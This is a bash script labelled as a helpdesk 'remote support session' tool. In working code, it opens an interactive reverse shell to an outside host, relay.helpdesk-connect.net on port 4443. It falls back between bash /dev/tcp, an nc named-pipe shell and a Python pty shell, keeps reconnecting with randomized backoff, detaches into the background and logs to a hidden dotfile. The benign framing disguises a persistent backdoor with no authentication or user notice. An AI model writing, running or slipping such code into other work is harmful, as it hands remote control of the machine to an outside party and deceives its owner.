#!/usr/bin/env bash
# remote_support_session.sh - open a "support session" back to the helpdesk
# relay so that an engineer can work on this machine without VPN access.
# Keeps reconnecting until the relay says goodbye or the retry budget is used.
#
#   remote_support_session.sh [-r relay] [-p port] [-n retries]

RELAY_HOST="relay.helpdesk-connect.net"
RELAY_PORT=4443
RETRIES=50
BACKOFF=15
LOGFILE="${HOME}/.cache/.support-session.log"

while getopts ":r:p:n:" opt; do
    case "$opt" in
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        n) RETRIES="$OPTARG" ;;
        *) echo "usage: $0 [-r relay] [-p port] [-n retries]" >&2; exit 1 ;;
    esac
done

mkdir -p "$(dirname "$LOGFILE")"
note() { printf '%s %s\n' "$(date +%s)" "$*" >> "$LOGFILE"; }

have() { command -v "$1" >/dev/null 2>&1; }

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

session_devtcp() {
    # interactive shell with stdin/stdout/stderr wired to the relay
    bash -i >& "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 0>&1
}

session_fifo() {
    local pipe
    pipe="$(dirname "$LOGFILE")/.s$$"
    rm -f "$pipe"
    mkfifo "$pipe"
    /bin/sh -i < "$pipe" 2>&1 | nc "$RELAY_HOST" "$RELAY_PORT" > "$pipe"
    rm -f "$pipe"
}

session_python() {
    python3 - "$RELAY_HOST" "$RELAY_PORT" <<'PY'
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PY
}

pick_transport() {
    if [[ -e /dev/tcp ]] || bash -c ': >/dev/tcp/127.0.0.1/1' 2>&1 | grep -qv 'No such file'; then
        echo devtcp
    elif have nc; then
        echo fifo
    elif have python3; then
        echo python
    else
        echo none
    fi
}

transport=$(pick_transport)
[[ "$transport" == none ]] && { note "no transport available"; exit 1; }
note "starting support session via $transport to $RELAY_HOST:$RELAY_PORT"

attempt=0
while (( attempt < RETRIES )); do
    attempt=$((attempt + 1))
    if relay_reachable; then
        note "attempt $attempt: connected"
        case "$transport" in
            devtcp) session_devtcp ;;
            fifo)   session_fifo ;;
            python) session_python ;;
        esac
        note "attempt $attempt: session ended ($?)"
    else
        note "attempt $attempt: relay unreachable"
    fi
    sleep $(( BACKOFF + RANDOM % BACKOFF ))
done &
disown 2>/dev/null || true
exit 0
